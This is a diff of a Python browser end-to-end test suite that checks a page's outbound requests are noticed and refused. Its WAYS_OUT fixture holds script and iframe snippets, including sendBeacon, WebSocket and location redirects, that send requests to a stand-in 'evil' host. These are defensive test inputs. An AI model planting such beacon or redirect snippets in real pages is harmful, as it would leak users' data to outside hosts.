@@ -2,6 +2,7 @@
 
 from tests.browse.e2e.newsstand import Newsstand
 from tests.browse.e2e.watching import Watched
+from tests.browser import soon
 
 BARE = "<!doctype html><title>x</title>"
 FAULTS = {
@@ -19,27 +20,36 @@ WAYS_OUT = {
     "<script>navigator.sendBeacon('{evil}/beacon')</script>": "/beacon",
     "<script>new WebSocket('ws://elsewhere.example/')</script>": "CONNECT elsewhere.example:80",
     "<iframe src='{evil}/framed'></iframe>": "/framed",
-    "<script>setTimeout(() => location = '{evil}/left', 500)</script>": "/left",
+    "<script>function leave() { location = '{evil}/left' }</script>": "/left",
 }
 
 
 def show(watched: Watched, body: str) -> None:
     watched.page.route("**/bare", lambda route: route.fulfill(content_type="text/html", body=BARE + body))
     watched.open("/bare")
-    watched.page.wait_for_timeout(600)
 
 
 def test_the_faults_of_a_page_are_noted(watched: Watched) -> None:
     show(watched, "".join(FAULTS))
     watched.expect(*FAULTS.values())
-    watched.forget()
+    forget_all(watched)
 
 
 def test_what_a_page_wants_from_elsewhere_is_noted_and_refused(watched: Watched, stand: Newsstand) -> None:
     before = stand.evil.paths()
     show(watched, "".join(WAYS_OUT).replace("{evil}", stand.evil.url()[:-1]))
-    assert [way for way, seen in WAYS_OUT.items() if not any(seen in one for one in watched.elsewhere)] == []
+    watched.page.evaluate("() => { setTimeout(leave) }")  # now: nothing waits for the page any more
+
+    def unseen() -> list[str]:
+        return [way for way, seen in WAYS_OUT.items() if not any(seen in one for one in watched.elsewhere)]
+
+    assert soon(watched.page, lambda: not unseen()), unseen()
     assert stand.evil.paths() == before
-    watched.page.goto("about:blank")  # what was still on its way is told before it is forgotten
+    forget_all(watched)
+
+
+def forget_all(watched: Watched) -> None:
+    """Forget what was noted, and what is still on its way."""
+    watched.page.goto("about:blank")
     watched.page.wait_for_timeout(1000)
     watched.forget()
